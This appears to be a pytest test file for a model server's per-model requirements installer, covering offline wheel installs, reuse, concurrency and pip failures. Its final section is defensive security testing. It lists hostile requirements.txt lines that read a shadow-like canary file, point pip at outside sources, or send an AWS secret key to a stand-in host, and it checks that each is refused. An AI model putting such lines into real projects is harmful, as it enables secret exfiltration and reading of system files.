"""Per-model requirements: key, install from shipped wheels, reuse, failures, isolation (no server, no network)."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import pytest

from handler import requirements
from handler.requirements import MARKER, prepare, requirements_key
from torch_mme.errors import DependencyInstallError, ModelLoadError
from torch_mme.settings import Settings, default_deps_dir

MISSING = "nosuchpkg-torch-mme==9.9"


def build_wheel(folder: Path, name: str, version: str, requires: tuple[str, ...] = ()) -> Path:
    """A pure-Python wheel of package ``name`` whose ``__version__`` is ``version``, built by hand (no pip)."""
    info = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": f"__version__ = {version!r}\n",
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
        + "".join(f"Requires-Dist: {r}\n" for r in requires),
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: torch-mme-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(text.encode())}")
    files[f"{info}/RECORD"] = "\n".join([*record, f"{info}/RECORD,,"]) + "\n"
    folder.mkdir(parents=True, exist_ok=True)
    wheel = folder / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for path, text in files.items():  # a fixed timestamp: the same wheel built twice is the same bytes
            archive.writestr(zipfile.ZipInfo(path, date_time=(2020, 1, 1, 0, 0, 0)), text)
    return wheel


def model_with_requirements(root: Path, name: str, text: str, wheels: dict[str, str] | None = None) -> Path:
    """``<root>/<name>/code/requirements.txt`` with ``text``, and ``code/wheels/`` holding ``{package: version}``."""
    code = root / name / "code"
    code.mkdir(parents=True, exist_ok=True)
    (code / "requirements.txt").write_text(text)
    for package, version in (wheels or {}).items():
        build_wheel(code / "wheels", package, version)
    return root / name


@pytest.fixture
def deps_settings(tmp_path: Path, models_root: Path) -> Settings:
    return Settings(models_root=str(models_root), deps_dir=str(tmp_path / "deps"), pip_index="off")


class PipCalls:
    """Counts the pip processes ``handler.requirements`` starts (and still starts them)."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.commands: list[list[str]] = []
        real = subprocess.Popen

        def counting(command, *args, **kwargs):
            self.commands.append(list(command))
            return real(command, *args, **kwargs)

        monkeypatch.setattr(requirements.subprocess, "Popen", counting)

    def __len__(self) -> int:
        return len(self.commands)


@pytest.fixture
def pip_calls(monkeypatch: pytest.MonkeyPatch) -> PipCalls:
    return PipCalls(monkeypatch)


def folders(deps_dir: str) -> list[str]:
    return sorted(os.listdir(deps_dir)) if os.path.isdir(deps_dir) else []


def key_folders(deps_dir: str) -> list[str]:
    return [name for name in folders(deps_dir) if not name.startswith(".")]


# the key


def test_key_ignores_comments_blank_lines_and_line_endings(tmp_path):
    a = model_with_requirements(tmp_path, "a", "tmmepkg==1.0\n")
    b = model_with_requirements(tmp_path, "b", "# pinned\r\n\r\n  tmmepkg==1.0   # the one we test\r\n")
    assert requirements_key(str(a / "code")) == requirements_key(str(b / "code"))
    assert len(requirements_key(str(a / "code"))) == requirements.KEY_CHARS


def test_key_changes_with_the_requirements_and_the_shipped_wheels(tmp_path):
    base = model_with_requirements(tmp_path, "base", "tmmepkg\n", {"tmmepkg": "1.0"})
    keys = {requirements_key(str(base / "code"))}
    assert requirements_key(str(base / "code")) in keys  # stable across calls
    for name, text, wheels in (
        ("pin", "tmmepkg==1.0\n", {"tmmepkg": "1.0"}),
        ("v2", "tmmepkg\n", {"tmmepkg": "2.0"}),
        ("none", "tmmepkg\n", None),
    ):
        keys.add(requirements_key(str(model_with_requirements(tmp_path, name, text, wheels) / "code")))
    # the same wheel name with other bytes (a rebuilt wheel) is another key
    rebuilt = model_with_requirements(tmp_path, "rebuilt", "tmmepkg\n", {"tmmepkg": "1.0"})
    with zipfile.ZipFile(next((rebuilt / "code" / "wheels").iterdir()), "a") as archive:
        archive.writestr("tmmepkg/extra.py", "X = 1\n")
    keys.add(requirements_key(str(rebuilt / "code")))
    assert len(keys) == 5


def test_key_follows_included_requirement_files(tmp_path):
    model = model_with_requirements(tmp_path, "inc", "-r base.txt\n")
    (model / "code" / "base.txt").write_text("tmmepkg==1.0\n")
    before = requirements_key(str(model / "code"))
    (model / "code" / "base.txt").write_text("tmmepkg==2.0\n")
    assert requirements_key(str(model / "code")) != before


def test_key_is_cheap_and_a_model_without_requirements_pays_nothing(models, deps_settings, pip_calls):
    plain = models.dir("plain", {"code/inference.py": "X = 1\n"})
    assert prepare(str(plain), deps_settings) is None
    assert len(pip_calls) == 0 and not os.path.exists(deps_settings.deps_dir)


# installing


def test_installs_from_code_wheels_with_the_index_off_and_puts_the_folder_first(models_root, deps_settings, pip_calls):
    model = model_with_requirements(models_root, "m1", "tmmepkg==1.0\n", {"tmmepkg": "1.0"})
    deps = prepare(str(model), deps_settings, "m1")
    assert deps is not None and deps.installed
    assert len(pip_calls) == 1 and "--no-index" in pip_calls.commands[0]
    assert sys.path[0] == deps.site_packages
    assert deps.path == os.path.join(deps_settings.deps_dir, requirements_key(str(model / "code")))
    assert os.path.isfile(os.path.join(deps.path, MARKER))
    import tmmepkg

    assert tmmepkg.__version__ == "1.0" and tmmepkg.__file__.startswith(deps.site_packages)
    # only the folder and its lock: no temporary leftovers, no link to the base environment left inside
    assert [n for n in folders(deps_settings.deps_dir) if n.startswith(".tmp-")] == []
    assert not os.path.exists(os.path.join(deps.site_packages, requirements.BASE_PTH))


def test_a_second_load_reuses_the_folder_without_pip(models_root, deps_settings, pip_calls):
    model = model_with_requirements(models_root, "m1", "tmmepkg==1.0\n", {"tmmepkg": "1.0"})
    first = prepare(str(model), deps_settings, "m1")
    marker_mtime = os.stat(os.path.join(first.path, MARKER)).st_mtime_ns
    # another model with the same requirements and the same wheels shares it
    twin = model_with_requirements(models_root, "twin", "tmmepkg==1.0  # same\n", {"tmmepkg": "1.0"})
    second = prepare(str(twin), deps_settings, "twin")
    again = prepare(str(model), deps_settings, "m1")
    assert len(pip_calls) == 1
    assert not second.installed and not again.installed
    assert second.path == first.path == again.path
    assert os.stat(os.path.join(first.path, MARKER)).st_mtime_ns == marker_mtime
    assert sys.path.count(first.site_packages) == 1


def test_a_folder_without_the_marker_is_never_used(models_root, deps_settings, pip_calls):
    model = model_with_requirements(models_root, "m1", "tmmepkg==1.0\n", {"tmmepkg": "1.0"})
    final = Path(deps_settings.deps_dir) / requirements_key(str(model / "code"))
    half = final / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages" / "tmmepkg"
    half.mkdir(parents=True)
    (half / "__init__.py").write_text("__version__ = 'half-installed'\n")
    stale_tmp = Path(deps_settings.deps_dir) / f".tmp-{final.name}-dead"
    stale_tmp.mkdir()
    deps = prepare(str(model), deps_settings, "m1")
    assert deps.installed and len(pip_calls) == 1
    import tmmepkg

    assert tmmepkg.__version__ == "1.0"
    assert (final / MARKER).is_file() and not stale_tmp.exists()


def test_a_failing_requirement_raises_pips_reason_and_leaves_no_folder(models_root, deps_settings):
    model = model_with_requirements(models_root, "bad", f"{MISSING}\n")
    with pytest.raises(DependencyInstallError) as raised:
        prepare(str(model), deps_settings, "bad")
    message = str(raised.value)
    assert isinstance(raised.value, ModelLoadError) and raised.value.status == 500
    assert f"No matching distribution found for {MISSING}" in message
    assert "\n" not in message and "Traceback" not in message
    assert key_folders(deps_settings.deps_dir) == []
    assert [n for n in folders(deps_settings.deps_dir) if n.startswith(".tmp-")] == []


def test_installs_can_be_turned_off(models_root, deps_settings, pip_calls, monkeypatch, caplog):
    model = model_with_requirements(models_root, "m1", "tmmepkg==1.0\n", {"tmmepkg": "1.0"})
    monkeypatch.setenv("TORCH_MME_INSTALL_REQUIREMENTS", "false")
    off = Settings.from_env()
    assert off.install_requirements is False
    path_before = list(sys.path)
    with caplog.at_level("INFO", logger="handler.requirements"):
        assert prepare(str(model), deps_settings.with_overrides(install_requirements=False), "m1") is None
    assert "requirements.txt of m1 ignored" in caplog.text
    assert len(pip_calls) == 0 and sys.path == path_before and not os.path.exists(deps_settings.deps_dir)


def test_conflicting_versions_get_folders_of_their_own(models_root, deps_settings):
    one = model_with_requirements(models_root, "one", "tmmepkg==1.0\n", {"tmmepkg": "1.0"})
    two = model_with_requirements(models_root, "two", "tmmepkg==2.0\n", {"tmmepkg": "2.0"})
    first = requirements.ensure_installed(str(one / "code"), deps_settings, "one")
    second = requirements.ensure_installed(str(two / "code"), deps_settings, "two")
    assert first.path != second.path
    for deps, version in ((first, "1.0"), (second, "2.0")):
        code = "import tmmepkg; print(tmmepkg.__version__)"
        out = subprocess.run(
            [sys.executable, "-c", code], env={**os.environ, "PYTHONPATH": deps.site_packages}, capture_output=True
        )
        assert out.stdout.decode().strip() == version
        assert os.path.isdir(os.path.join(deps.site_packages, f"tmmepkg-{version}.dist-info"))


def test_packages_the_base_environment_satisfies_are_not_installed_again(models_root, deps_settings):
    model = model_with_requirements(models_root, "m1", "numpy\ntorch\ntmmepkg==1.0\n", {"tmmepkg": "1.0"})
    deps = requirements.ensure_installed(str(model / "code"), deps_settings, "m1")
    installed = sorted(n for n in os.listdir(deps.site_packages) if n.endswith(".dist-info"))
    assert installed == ["tmmepkg-1.0.dist-info"]
    log = Path(deps.path, requirements.INSTALL_LOG).read_text()
    assert "Requirement already satisfied: numpy" in log and "Requirement already satisfied: torch" in log


def test_another_version_of_a_base_package_goes_into_the_folder_and_the_base_is_untouched(models_root, deps_settings):
    """The reason for the overlay venv: ``pip install --prefix`` uninstalls the base's copy here."""
    from importlib import metadata

    candidates = [d for d in ("mpmath", "retrying", "jmespath", "pathable", "networkx") if d not in sys.modules]
    name = next(d for d in candidates if _installed(d))
    base_version, base_files = metadata.version(name), len(metadata.files(name) or [])
    model = model_with_requirements(models_root, "m1", f"{name}==0.0.1\n")
    build_wheel(model / "code" / "wheels", name, "0.0.1")
    deps = requirements.ensure_installed(str(model / "code"), deps_settings, "m1")
    assert os.path.isdir(os.path.join(deps.site_packages, f"{name}-0.0.1.dist-info"))
    assert "outside environment" in Path(deps.path, requirements.INSTALL_LOG).read_text()
    assert metadata.version(name) == base_version and len(metadata.files(name) or []) == base_files


def _installed(name: str) -> bool:
    from importlib import metadata

    try:
        return bool(metadata.version(name))
    except metadata.PackageNotFoundError:
        return False


def test_an_imported_package_is_pinned_so_a_conflict_fails_clearly(models_root, deps_settings):
    from importlib import metadata

    base_numpy = metadata.version("numpy")
    # asked for directly: refused in our words before pip
    model = model_with_requirements(models_root, "m1", "numpy==0.0.1\n")
    build_wheel(model / "code" / "wheels", "numpy", "0.0.1")
    with pytest.raises(DependencyInstallError, match=r"asks for numpy==0\.0\.1, but numpy \S+ is already loaded"):
        requirements.ensure_installed(str(model / "code"), deps_settings, "m1")
    # asked for by a dependency: pip is told to keep it (its constraints file), fails, and we say why
    model = model_with_requirements(models_root, "m2", "tmmedep==1.0\n", {"numpy": "0.0.1"})
    build_wheel(model / "code" / "wheels", "tmmedep", "1.0", requires=("numpy==0.0.1",))
    with pytest.raises(DependencyInstallError) as raised:
        requirements.ensure_installed(str(model / "code"), deps_settings, "m2")
    # numpy is already imported in a model process: a second copy would be shadowed
    assert "numpy" in str(raised.value) and "stay at their installed versions" in str(raised.value)
    assert metadata.version("numpy") == base_numpy


def test_torch_is_never_installed_a_second_time(models_root, deps_settings):
    model = model_with_requirements(models_root, "m1", "torch==1.0.0\n")
    with pytest.raises(DependencyInstallError, match=r"torch==1\.0\.0.*stay at their installed versions"):
        requirements.ensure_installed(str(model / "code"), deps_settings, "m1")


def test_requirements_the_base_environment_satisfies_run_no_pip(models_root, deps_settings, pip_calls):
    from importlib import metadata

    torch_version, numpy_version = metadata.version("torch"), metadata.version("numpy")
    text = (
        f"torch>={torch_version.split('+')[0]}\nnumpy=={numpy_version}  # pinned\nnothing-here; python_version < '3'\n"
    )
    model = model_with_requirements(models_root, "satisfied", text)
    assert prepare(str(model), deps_settings, "satisfied") is None
    assert len(pip_calls) == 0 and folders(deps_settings.deps_dir) == []


@pytest.mark.parametrize(
    "line",
    [
        "torch==1.0.0",
        "surely-not-installed-tmme",
        "numpy[extra]",
        "--index-url https://example.invalid",
        "pkg @ file:///x",
    ],
)
def test_anything_else_is_left_to_pip(line):
    assert not requirements.satisfied_by_base(f"numpy\n{line}")


def test_the_wheelhouse_is_searched_too(models_root, deps_settings, tmp_path):
    wheelhouse = tmp_path / "wheelhouse"
    build_wheel(wheelhouse, "tmmepkg", "2.0")
    model = model_with_requirements(models_root, "m1", "tmmepkg==2.0\n")
    deps = requirements.ensure_installed(
        str(model / "code"), deps_settings.with_overrides(wheelhouse=str(wheelhouse)), "m1"
    )
    assert os.path.isdir(os.path.join(deps.site_packages, "tmmepkg-2.0.dist-info"))


def test_the_index_is_tried_after_the_local_wheels_unless_it_is_off(models_root, deps_settings, pip_calls):
    model = model_with_requirements(models_root, "m1", f"{MISSING}\n", {"tmmepkg": "1.0"})
    with pytest.raises(DependencyInstallError):
        requirements.ensure_installed(str(model / "code"), deps_settings, "m1")
    assert len(pip_calls) == 1
    # with an index (a local, empty one: no network), a second attempt uses it with the same find-links
    empty_index = models_root.parent / "empty-index"
    empty_index.mkdir()
    with pytest.raises(DependencyInstallError, match="No matching distribution"):
        requirements.ensure_installed(
            str(model / "code"), deps_settings.with_overrides(pip_index=empty_index.as_uri()), "m1"
        )
    assert len(pip_calls) == 3
    assert "--no-index" in pip_calls.commands[1] and "--index-url" in pip_calls.commands[2]
    assert "--find-links" in pip_calls.commands[2]


def test_the_index_is_tried_whatever_pip_says_when_the_local_wheels_fail(models_root, deps_settings, monkeypatch):
    """The retry used to depend on pip's wording ('No matching distribution found', ...)."""
    calls: list[list[str]] = []

    def pip_in_other_words(command, cwd, deadline):
        calls.append(command)
        return 1, "ERROR: pip put it differently this time\n"

    monkeypatch.setattr(requirements, "_run", pip_in_other_words)
    model = model_with_requirements(models_root, "m1", f"{MISSING}\n", {"tmmepkg": "1.0"})
    with pytest.raises(DependencyInstallError, match="pip put it differently"):
        requirements.ensure_installed(
            str(model / "code"), deps_settings.with_overrides(pip_index="https://example.invalid/simple"), "m1"
        )
    assert len(calls) == 2 and "--no-index" in calls[0] and "--index-url" in calls[1]


def test_concurrent_loads_with_the_same_requirements_install_once(models_root, deps_settings, pip_calls):
    models = [model_with_requirements(models_root, f"m{i}", "tmmepkg==1.0\n", {"tmmepkg": "1.0"}) for i in range(3)]
    results, errors = [], []

    def load(model: Path) -> None:
        try:
            results.append(requirements.ensure_installed(str(model / "code"), deps_settings, model.name))
        except Exception as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=load, args=(m,)) for m in models]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert errors == [] and len(results) == 3
    assert len(pip_calls) == 1
    assert len({r.path for r in results}) == 1 and sorted(r.installed for r in results) == [False, False, True]


def test_an_unusable_deps_dir_is_a_clear_load_error(models_root, deps_settings, tmp_path):
    (tmp_path / "a-file").write_text("not a folder")
    model = model_with_requirements(models_root, "m1", "tmmepkg==1.0\n", {"tmmepkg": "1.0"})
    broken = deps_settings.with_overrides(deps_dir=str(tmp_path / "a-file" / "deps"))
    with pytest.raises(DependencyInstallError, match="TORCH_MME_DEPS_DIR must be a writable folder"):
        prepare(str(model), broken, "m1")


def test_a_pip_that_outlives_its_budget_is_killed(tmp_path):
    started = time.monotonic()
    code, output = requirements._run(
        [sys.executable, "-c", "import time; print('working', flush=True); time.sleep(30)"],
        str(tmp_path),
        time.monotonic() + 0.5,
    )
    assert code is None and "working" in output and time.monotonic() - started < 10


def test_pip_time_is_bounded_by_the_load_timeout():
    assert requirements._budget(Settings(timeout_s=60, pip_timeout_s=600)) == 55
    assert requirements._budget(Settings(timeout_s=3600, pip_timeout_s=600)) == 600


def test_pip_reason_keeps_the_error_and_the_conflict():
    output = """Looking in links: /w
ERROR: Cannot install tmmepkg==1.0 and other==2 because these package versions have conflicting dependencies.

The conflict is caused by:
    The user requested tmmepkg==1.0
    other 2 depends on tmmepkg>=2

To fix this you could try to:
ERROR: ResolutionImpossible: for help visit https://pip.pypa.io
"""
    reason = requirements.pip_reason(output)
    assert reason.startswith("Cannot install tmmepkg==1.0 and other==2")
    assert "The user requested tmmepkg==1.0, other 2 depends on tmmepkg>=2" in reason
    assert "ResolutionImpossible" not in reason and "\n" not in reason
    assert requirements.pip_reason("") == "pip failed without output"


# settings and the handler


def test_settings_from_the_environment(monkeypatch, tmp_path):
    env = {
        "TORCH_MME_INSTALL_REQUIREMENTS": "off",
        "TORCH_MME_DEPS_DIR": "/srv/deps",
        "TORCH_MME_WHEELHOUSE": "/srv/wheels",
        "TORCH_MME_PIP_INDEX": "off",
        "TORCH_MME_PIP_TIMEOUT_S": "42",
    }
    settings = Settings.from_env(env)
    assert settings.install_requirements is False
    assert (settings.deps_dir, settings.wheelhouse, settings.pip_index) == ("/srv/deps", "/srv/wheels", "off")
    assert settings.pip_timeout_s == 42
    defaults = Settings.from_env({})
    assert defaults.install_requirements is True and defaults.deps_dir == "" and defaults.pip_timeout_s == 600
    assert default_deps_dir({"XDG_CACHE_HOME": "/c", "HOME": "/h"}) == "/c/torch-mme/deps"
    assert default_deps_dir({"HOME": "/h"}) == "/h/.cache/torch-mme/deps"


def test_serve_exports_the_default_deps_dir(monkeypatch, tmp_path):
    from torch_mme.runtime.serve import mms_environment, prepare_run_dir

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    env = mms_environment(prepare_run_dir(Settings(run_dir=str(tmp_path / "run"))))
    assert env["TORCH_MME_DEPS_DIR"] == str(tmp_path / "cache" / "torch-mme" / "deps")
    assert env["TMPDIR"] == str(tmp_path / "run")  # the workers' TMPDIR is per run: the deps dir is not under it
    kept = mms_environment(prepare_run_dir(Settings(run_dir=str(tmp_path / "run"), deps_dir="/srv/deps")))
    assert kept["TORCH_MME_DEPS_DIR"] == "/srv/deps"


VERSION_SCRIPT = """
    import json

    import tmmepkg


    def model_fn(model_dir):
        return object()


    def transform_fn(model, body, content_type, accept):
        return json.dumps({"version": tmmepkg.__version__, "file": tmmepkg.__file__}), "application/json"
"""


def test_the_handler_installs_before_importing_the_users_code(models, serve, deps_settings):
    model = models.dir("versioned", {"code/inference.py": VERSION_SCRIPT, "code/requirements.txt": "tmmepkg==2.0\n"})
    build_wheel(model / "code" / "wheels", "tmmepkg", "2.0")
    served = serve(model, deps_settings)
    status, _, body = served.one(b"{}")
    assert status == 200
    answer = json.loads(body)
    assert answer["version"] == "2.0" and answer["file"].startswith(deps_settings.deps_dir)


def test_the_handler_fails_the_load_with_pips_reason(models, make_context, deps_settings):
    from handler.service import PyTorchHandler

    model = models.dir("broken", {"code/inference.py": VERSION_SCRIPT, "code/requirements.txt": f"{MISSING}\n"})
    with pytest.raises(DependencyInstallError, match=f"No matching distribution found for {MISSING}"):
        PyTorchHandler(settings=deps_settings).initialize(make_context(model))


def test_a_pinned_version_conflict_is_refused_in_our_own_words_before_pip(models_root, deps_settings, pip_calls):
    # pip's message changes between its versions and with the constraints its own configuration adds
    # (this machine's global pip.conf caps torch, which made pip word the conflict differently)
    model = model_with_requirements(models_root, "m1", "torch==1.0.0\n")
    with pytest.raises(DependencyInstallError, match=r"asks for torch==1\.0\.0, but torch \S+ is already loaded"):
        requirements.ensure_installed(str(model / "code"), deps_settings, "m1")
    assert len(pip_calls) == 0


# what a model's requirements may name: nothing outside its code/ folder, no other package source

SECRET = "root:TORCH-MME-CANARY-7f3a91:0:0:secret"


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A file outside every model holding a secret (and a folder beside it), as /etc/shadow would be."""
    folder = tmp_path / "outside"
    folder.mkdir()
    secret = folder / "shadow"
    secret.write_text(f"{SECRET}\nTORCH-MME-CANARY-PKG==1.0\n")
    build_wheel(folder, "tmmepkg", "1.0")
    return secret


@pytest.mark.parametrize(
    "line",
    [
        "-r {secret}",
        "--requirement {secret}",
        "--requirement={secret}",
        "--req {secret}",  # optparse takes an unambiguous prefix of a long option
        "-r{secret}",
        "-c {secret}",
        "--constraint={secret}",
        "-r ../../outside/shadow",
        "-r file://{secret}",
        "-r file:{secret}",  # a URL to pip, whatever code/ holds
        "-r https://example.invalid/requirements.txt",
        "{secret}",
        "tmmepkg @ file://{secret}",
        "git+file:{folder}#egg=tmmepkg",
        "-f ftp:wheels",
        "-e {folder}",
        "--find-links {folder}",
        "-f file://{folder}",
        "-f https://example.invalid/wheels/",
        "--index-url https://example.invalid/simple",
        "-i https://example.invalid/simple",
        "--extra-index-url https://example.invalid/simple",
        "--trusted-host example.invalid",
        "tmmepkg @ https://example.invalid/${{AWS_SECRET_ACCESS_KEY}}.whl",
        "tmmepkg==1.0 --global-option=--verbose",
        "--use-feature=truststore",
    ],
)
def test_requirements_naming_outside_files_or_package_sources_are_refused(
    models_root, deps_settings, pip_calls, canary, caplog, line
):
    text = "tmmepkg==1.0\n" + line.format(secret=canary, folder=canary.parent) + "\n"
    model = model_with_requirements(models_root, "m1", text, {"tmmepkg": "1.0"})

    with pytest.raises(DependencyInstallError) as caught:
        requirements.ensure_installed(str(model / "code"), deps_settings, "m1")

    message = str(caught.value)
    assert "code/requirements.txt line 2" in message
    assert "CANARY" not in message.replace(str(canary), "") and "secret" not in message
    assert "CANARY-7f3a91" not in caplog.text
    assert len(pip_calls) == 0  # refused before pip or the key read anything
    assert folders(deps_settings.deps_dir) == []


def test_an_included_file_inside_code_may_not_include_one_outside(models_root, deps_settings, pip_calls, canary):
    model = model_with_requirements(models_root, "m1", "-r base.txt\n")
    (model / "code" / "base.txt").write_text(f"tmmepkg==1.0\n-c {canary}\n")
    with pytest.raises(DependencyInstallError, match="code/base.txt line 2") as caught:
        requirements.ensure_installed(str(model / "code"), deps_settings, "m1")
    assert "CANARY" not in str(caught.value)
    assert len(pip_calls) == 0


def test_a_file_url_include_is_refused_even_when_code_holds_that_path(models_root, deps_settings, pip_calls, canary):
    model = model_with_requirements(models_root, "m1", f"-r file:{canary}\n")
    shadow = model / "code" / f"file:{canary}"  # code/file:/tmp/.../shadow: a harmless file inside code/
    shadow.parent.mkdir(parents=True)
    shadow.write_text("tmmepkg==1.0\n")
    with pytest.raises(DependencyInstallError, match="not a URL") as caught:
        requirements.ensure_installed(str(model / "code"), deps_settings, "m1")
    assert "CANARY" not in str(caught.value)
    assert len(pip_calls) == 0


def test_a_requirements_file_that_is_a_symlink_out_of_code_is_refused(models_root, deps_settings, pip_calls, canary):
    code = models_root / "m1" / "code"
    code.mkdir(parents=True)
    (code / "requirements.txt").symlink_to(canary)
    with pytest.raises(DependencyInstallError, match="is not a file inside the model's code/ folder") as caught:
        requirements.ensure_installed(str(code), deps_settings, "m1")
    assert "CANARY" not in str(caught.value)
    assert len(pip_calls) == 0


def test_local_sources_inside_code_are_still_allowed(models_root, deps_settings):
    model = model_with_requirements(
        models_root,
        "m1",
        "# shipped with the model\n-r base.txt\n--find-links ./extra\n--no-index\n--prefer-binary\n",
    )
    (model / "code" / "base.txt").write_text("tmmepkg==2.0 \\\n  --hash=sha256:0\n")
    build_wheel(model / "code" / "extra", "tmmepkg", "2.0")
    requirements.check_requirements(str(model / "code"))
    (model / "code" / "base.txt").write_text("tmmepkg==2.0\n")
    deps = requirements.ensure_installed(str(model / "code"), deps_settings, "m1")
    assert os.path.isdir(os.path.join(deps.site_packages, "tmmepkg-2.0.dist-info"))
